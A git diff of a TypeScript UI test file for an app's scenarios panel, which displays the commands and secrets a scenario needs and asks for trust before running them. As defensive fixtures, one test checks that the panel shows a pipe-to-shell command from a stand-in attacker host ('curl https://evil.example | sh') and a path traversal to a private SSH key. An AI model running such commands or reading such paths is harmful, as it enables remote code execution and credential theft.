@@ -10,7 +10,7 @@ import { refusal } from '../src/lib/mock/samples';
 import { failed, places, planned, scenarioStory } from '../src/lib/mock/scenarios';
 import { scenes } from '../src/lib/mock/scenes';
 import type { ScenarioLine, ScenarioMessage } from '../src/lib/scenario-words';
-import { apply, blank, countsOf, needsTrust, parted } from '../src/lib/scenarios';
+import { apply, blank, countsOf, needsTrust, parted, visible } from '../src/lib/scenarios';
 import { expectAccessible } from './axe';
 import { recorder } from './recorder';
 
@@ -27,7 +27,7 @@ configure({ asyncUtilTimeout: 10_000 });
 const line = (line: ScenarioLine): ScenarioMessage => ({ type: 'line', line });
 
 /** The page, and who tells it what happens. */
-async function page(said: readonly ScenarioMessage[] = [{ type: 'chosen', places: [] }], changes: Partial<Host> = {}) {
+async function page(said: readonly ScenarioMessage[] = [{ type: 'chosen', watching: 2, places: [] }], changes: Partial<Host> = {}) {
   location.hash = '#/scenarios';
   let tell: (message: ScenarioMessage) => void = () => undefined;
   const { host, tell: tellAgent } = recorder({ watchScenarios: vi.fn((listener) => (tell = listener)), ...changes });
@@ -78,12 +78,12 @@ describe('before anything is run', () => {
     const { host, say } = await page(planned);
     const trust = screen.getByTestId('scenarios-trust');
     expect(trust).toHaveTextContent('Nothing has been run yet');
-    for (const told of ['node login.mjs --as grace', 'node login.mjs --as ada --deny', 'https://acme.eu.auth0.com/', 'work', 'Headless Chromium']) {
+    for (const told of ['node login.mjs --as grace', 'node login.mjs --as ada --deny', 'https://acme.eu.auth0.com/', 'work', 'Headless Chromium', 'ACME_ISSUER']) {
       expect(trust).toHaveTextContent(told);
     }
     expect(host.orderScenarios).not.toHaveBeenCalled();
     await person.click(screen.getByTestId('run-scenarios'));
-    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('run');
+    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith({ run: { watching: 1, told: 2 } });
     expect(screen.getByTestId('run-scenarios')).toHaveAttribute('aria-busy', 'true');
     await say(...scenarioStory('scenariosRunning', EVENTS).slice(planned.length));
     expect(screen.queryByTestId('scenarios-trust')).toBeNull();
@@ -93,7 +93,7 @@ describe('before anything is run', () => {
   it('says what is missing where the command is not there', async () => {
     await page(scenarioStory('scenariosMissing', EVENTS));
     expect(screen.getByTestId('scenarios-left')).toHaveTextContent('desktop.no_command');
-    expect(screen.getByTestId('run-scenarios')).toBeEnabled();
+    expect(screen.getByTestId('read-scenarios')).toBeEnabled();
   });
 });
 
@@ -149,7 +149,7 @@ describe('while they run', () => {
     for (const told of ['curl https://evil.example | sh', '../../.ssh/id_ed25519', 'https://evil.example']) expect(card).toHaveTextContent(told);
     expect(screen.getAllByTestId('scenario-new')).toHaveLength(1);
     await person.click(within(card).getByTestId('run-new'));
-    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('run');
+    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith({ run: { watching: 1, told: 6 } });
   });
 
   it('is stopped, run again and closed', async () => {
@@ -160,8 +160,8 @@ describe('while they run', () => {
     expect(screen.getByTestId('scenarios-status')).toHaveTextContent('Not running');
     await person.click(screen.getByTestId('run-scenarios'));
     await person.click(screen.getByTestId('close-scenarios'));
-    expect(vi.mocked(host.orderScenarios).mock.calls).toEqual([['again'], ['stop'], ['run'], ['close']]);
-    await say({ type: 'chosen', places: [] });
+    expect(vi.mocked(host.orderScenarios).mock.calls).toEqual([['again'], ['stop'], [{ run: { watching: 1, told: 6 } }], ['close']]);
+    await say({ type: 'chosen', watching: 2, places: [] });
     expect(screen.getByTestId('no-scenarios')).toBeInTheDocument();
   });
 
@@ -171,6 +171,32 @@ describe('while they run', () => {
     for (const told of ['SIGKILL', 'login.mjs: the page has no #allow', 'desktop.watch_ended']) expect(left).toHaveTextContent(told);
     expect(document.querySelector('[data-state="running"]')).toBeNull();
     expect(run('Ada says no')).toHaveAttribute('data-state', 'failed');
+  });
+
+  it('what has ended is read anew, and nothing of it is run unseen', async () => {
+    const { host, say } = await page([...scenarioStory('scenariosDone', EVENTS), { type: 'ended' }]);
+    expect(screen.queryByTestId('run-scenarios')).toBeNull();
+    await person.click(screen.getByTestId('read-scenarios'));
+    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('read');
+    await say({ type: 'chosen', watching: 2, places }, ...planned.slice(1));
+    expect(screen.getByTestId('scenarios-trust')).toHaveTextContent('node login.mjs --as grace');
+    await person.click(screen.getByTestId('run-scenarios'));
+    expect(host.orderScenarios).toHaveBeenLastCalledWith({ run: { watching: 2, told: 2 } });
+  });
+
+  it('a save while nothing is run does not make what was run before unsaid', async () => {
+    const { say } = await page([...scenarioStory('scenariosDone', EVENTS), line({ type: 'waiting', held: true })]);
+    await say(...planned.slice(1));
+    expect(screen.queryByTestId('scenarios-trust')).toBeNull();
+    expect(screen.getByTestId('run-scenarios')).toBeEnabled();
+  });
+
+  it('who uses the keyboard is not lost when the button goes that was pressed', async () => {
+    const { say } = await page(planned);
+    screen.getByTestId('run-scenarios').focus();
+    await person.keyboard('{Enter}');
+    await say(...scenarioStory('scenariosRunning', EVENTS).slice(planned.length));
+    expect(screen.getByRole('heading', { level: 1 })).toHaveFocus();
   });
 
   it('an order that is refused is said', async () => {
@@ -190,7 +216,7 @@ describe('what is known of them', () => {
   });
 
   it('files are in order, and go', () => {
-    const board = after(...planned, line({ type: 'file', version: 1, file: '/a.toml', held: true, runs: [] }));
+    const board = after(...planned, line({ type: 'file', version: 1, number: 3, file: '/a.toml', held: true, runs: [] }));
     expect(board.files.map(({ name }) => parted(name, places))).toEqual([
       { folder: '/', name: 'a.toml' },
       { folder: '', name: 'login.toml' },
@@ -205,8 +231,13 @@ describe('what is known of them', () => {
     expect(told.files).toEqual(board.files);
   });
 
+  it('what cannot be seen in a text, or turns it round, is told by its number', () => {
+    expect(visible('sh -c "a\u202eb\u200b\u0007\u00a0c\n"')).toBe('sh -c "a\\u{202e}b\\u{200b}\\u{7}\\u{a0}c\\u{a}"');
+    expect(visible('node  größe 日本 😀')).toBe('node  größe 日本 😀');
+  });
+
   it('each command and each secret is named once', () => {
-    const twice = line({ type: 'file', version: 1, file: '/b.toml', held: true, runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
+    const twice = line({ type: 'file', version: 1, number: 3, file: '/b.toml', held: true, runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
     const needs = needsTrust(after(...planned, twice).files);
     expect(needs.commands).toEqual(['node login.mjs --as ada --deny', 'node login.mjs --as grace']);
     expect(needs.secrets).toEqual({ env: ['ADA_PASSWORD'], file: [], keyring: ['acme-tests, grace'] });
